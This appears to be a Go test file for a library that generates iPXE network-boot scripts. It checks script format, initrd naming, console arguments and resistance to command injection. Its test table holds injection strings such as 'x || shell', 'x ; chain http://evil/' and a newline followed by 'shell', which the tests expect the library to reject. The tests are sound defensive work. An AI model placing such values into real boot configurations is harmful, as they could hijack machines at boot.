package ipxe_test

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"firstlight/ipxe"
)

var update = flag.Bool("update", false, "write the golden files")

func full() ipxe.Boot {
	return ipxe.Boot{
		Banner: "node-7 of site-a, boot lease-abc",
		Kernel: ipxe.Image{Name: "kernel", URL: "http://10.77.0.2:8080/f/vmlinuz"},
		Initrds: []ipxe.Image{
			{Name: "ramdisk", URL: "http://10.77.0.2:8080/f/ramdisk.cpio.zst"},
			{Name: "site", URL: "http://10.77.0.2:8080/b/token/site.cpio"},
			{Name: "boot", URL: "http://10.77.0.2:8080/b/token/boot.cpio"},
		},
		Args:    []string{"console=ttyS0", "quiet"},
		FailURL: "http://10.77.0.2:8080/b/token/failed",
	}
}

func cases() map[string]ipxe.Boot {
	one := full()
	one.Initrds = []ipxe.Image{{Name: "initrd", URL: "http://10.77.0.2/a/initrd?token=x"}}
	three := full()
	three.Initrds = []ipxe.Image{
		{Name: "first", URL: "http://10.77.0.2/a/initrd?token=x"},
		{Name: "second", URL: "http://10.77.0.2/a/initrd"},
		{Name: "third", URL: "http://10.77.0.2/b/initrd"},
	}
	bare := ipxe.Boot{Kernel: ipxe.Image{Name: "k", URL: "http://10.0.0.1/k"}}
	quoted := full()
	quoted.Args = []string{`dyndbg="module e1000e +p"`, "x;y", "a||b", "p%0aq"}
	return map[string]ipxe.Boot{"full": full(), "one-initrd": one, "three-initrds": three, "bare": bare, "quoted": quoted}
}

func TestIPXE01_ScriptStartsWithMagic(t *testing.T) {
	for name, b := range cases() {
		t.Run(name, func(t *testing.T) {
			got, err := b.Script()
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.HasPrefix(got, []byte("#!ipxe\n")) {
				t.Errorf("first bytes: got %q, want %q", got[:min(7, len(got))], "#!ipxe\n")
			}
			if !bytes.HasSuffix(got, []byte("\n")) || bytes.ContainsAny(got, "\r\t") {
				t.Errorf("want LF line ends, LF at the end and no tab, got %q", got)
			}
			for i, line := range strings.Split(strings.TrimSuffix(string(got), "\n"), "\n") {
				if strings.TrimSpace(line) == "" || line != strings.TrimRight(line, ` \`) {
					t.Errorf("line %d: got %q, want it not empty, without blank or backslash at its end", i+1, line)
				}
			}
			golden(t, name, got)
		})
	}
}

func TestIPXE01_NoticeStartsWithMagic(t *testing.T) {
	got, err := ipxe.Notice("the boot lease was consumed at 10:00:00, start the machine again from the control plane")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "notice", got)
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".ipxe")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s: got\n%s\nwant\n%s", path, got, want)
	}
}

// The texts of the field case, and which of them iPXE passes on.
var fieldTexts = []struct {
	text string
	ok   bool
}{
	{"a${net0/mac}", false}, {"x || shell", false}, {"x && y", false}, {"x ; chain http://evil/", false}, {"x\nshell", false},
	{"#y", false}, {"a #y", false}, {`"a b"`, true}, {`a\`, false}, {strings.Repeat("a", 2000), false}, {"a\rb", false},
	{"a\x00b", false}, {"a\tb", false}, {"a%0ab", true}, {"", false}, {"a  b", false}, {" a", false}, {"a ", false}, {"ä", false},
	{"a#b", true}, {"a;b", true}, {"$a", true}, {"\v", false},
}

func TestIPXE02_TextCannotBecomeScript(t *testing.T) {
	for _, c := range fieldTexts {
		if c.text != "" {
			b := full()
			b.Banner = c.text
			checkPassed(t, "banner", c.text, c.ok, b, func(cs []command) []string { return cs[0].words[2:] })
		}
		b := full()
		b.Args = []string{c.text}
		checkPassed(t, "argument 1", c.text, c.ok, b, func(cs []command) []string { return cs[4].words[8:] })
	}
	for field, b := range map[string]ipxe.Boot{
		"kernel address":   {Kernel: ipxe.Image{Name: "k", URL: "http://a/ b"}},
		"kernel":           {Kernel: ipxe.Image{Name: "--help", URL: "http://a/b"}},
		"initrd 1 address": {Kernel: ipxe.Image{Name: "k", URL: "http://a/b"}, Initrds: []ipxe.Image{{Name: "i", URL: "--name"}}},
		"failure address":  {Kernel: ipxe.Image{Name: "k", URL: "http://a/b"}, FailURL: "http://${next-server}/"},
	} {
		if s, err := b.Script(); err == nil || !strings.Contains(err.Error(), field) {
			t.Errorf("%s: got script %q, error %v; want an error that names the field", field, s, err)
		}
	}
}

func checkPassed(t *testing.T, field, text string, ok bool, b ipxe.Boot, words func([]command) []string) {
	t.Helper()
	s, err := b.Script()
	if !ok {
		if !errors.Is(err, ipxe.ErrUnsafe) || !strings.Contains(err.Error(), field) {
			t.Errorf("%s %.40q: got error %v, want one that wraps ErrUnsafe and names the field", field, text, err)
		}
		return
	}
	if err != nil {
		t.Errorf("%s %q: got error %v, want a script", field, text, err)
		return
	}
	got := split(s)
	if w := strings.Join(words(got), " "); w != text {
		t.Errorf("%s %q: iPXE sees %q", field, text, w)
	}
	plain := full()
	if want := names(split(must(plain.Script()))); !reflect.DeepEqual(names(got), want) {
		t.Errorf("%s %q: got commands %v, want %v", field, text, names(got), want)
	}
}

func names(cs []command) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.after+c.words[0])
	}
	return out
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}

func TestIPXE03_InitrdsAreNamedTwice(t *testing.T) {
	for name, b := range cases() {
		var kernel, loaded []string
		for _, c := range split(must(b.Script())) {
			switch c.words[0] {
			case "kernel":
				for _, w := range c.words {
					if v, ok := strings.CutPrefix(w, "initrd="); ok {
						kernel = append(kernel, v)
					}
				}
			case "initrd":
				if c.words[1] != "--name" {
					t.Errorf("%s: got %q, want an explicit --name", name, c.words)
				}
				loaded = append(loaded, c.words[2])
			}
		}
		if !reflect.DeepEqual(kernel, loaded) || len(loaded) != len(b.Initrds) {
			t.Errorf("%s: kernel line names %q, loaded are %q, want the same %d in order", name, kernel, loaded, len(b.Initrds))
		}
	}
	twice := full()
	twice.Initrds[1].Name = "ramdisk"
	if _, err := twice.Script(); err == nil || !strings.Contains(err.Error(), `"ramdisk" is taken`) {
		t.Errorf("two initrds of one name: got error %v", err)
	}
}

func TestIPXE04_BootedCardIsNamed(t *testing.T) {
	for name, b := range cases() {
		script := string(must(b.Script()))
		if !strings.Contains(script, " BOOTIF=01-${netX/mac:hexhyp}") || strings.Contains(script, "net0") {
			t.Errorf("%s: want the address of the card that was opened last, and no other, got\n%s", name, script)
		}
	}
}

func TestIPXE06_ConsoleArguments(t *testing.T) {
	for _, c := range []struct{ name, args, want string }{
		{"no serial", "quiet", "quiet"},
		{"ttyS0", "console=ttyS0 quiet", "quiet console=ttyS0"},
		{"ttyS1 at 115200, site says ttyS0", "console=ttyS0 quiet console=ttyS1,115200n8", "quiet console=ttyS0 console=ttyS1,115200n8"},
		{"arm64", "console=ttyAMA0 earlycon", "earlycon console=ttyAMA0"},
		{"screen and serial", "console=tty0 console=ttyS0 panic=30", "panic=30 console=tty0 console=ttyS0"},
		{"one console twice", "console=ttyS0 console=tty0 console=ttyS0,115200", "console=tty0 console=ttyS0,115200"},
	} {
		b := full()
		b.Args = strings.Fields(c.args)
		var line []string
		for _, command := range split(must(b.Script())) {
			if command.words[0] == "kernel" {
				line = command.words
			}
		}
		if got := strings.Join(line[8:], " "); got != c.want {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
	if got := strings.Join(strings.Fields(string(must(cases()["bare"].Script()))), " "); strings.Contains(got, "console=") {
		t.Errorf("no argument: got a console in %q", got)
	}
}

func TestCommandLineIsBounded(t *testing.T) {
	b := full()
	for range 5 {
		b.Args = append(b.Args, strings.Repeat("x", 400))
	}
	if _, err := b.Script(); err == nil || !strings.Contains(err.Error(), "command line") {
		t.Errorf("got error %v, want one about the command line's length", err)
	}
}

func FuzzTextStaysText(f *testing.F) {
	for _, c := range fieldTexts {
		f.Add(c.text, c.text)
	}
	want := names(split(must(full().Script())))
	f.Fuzz(func(t *testing.T, banner, arg string) {
		b := full()
		b.Banner, b.Args = banner, []string{arg}
		s, err := b.Script()
		if err != nil {
			return
		}
		got := split(s)
		if !reflect.DeepEqual(names(got), want) {
			t.Fatalf("got commands %v, want %v, script %q", names(got), want, s)
		}
		if w := strings.Join(got[4].words[8:], " "); w != arg && !strings.HasPrefix(arg, "console=") {
			t.Fatalf("argument %q: iPXE sees %q", arg, w)
		}
	})
}
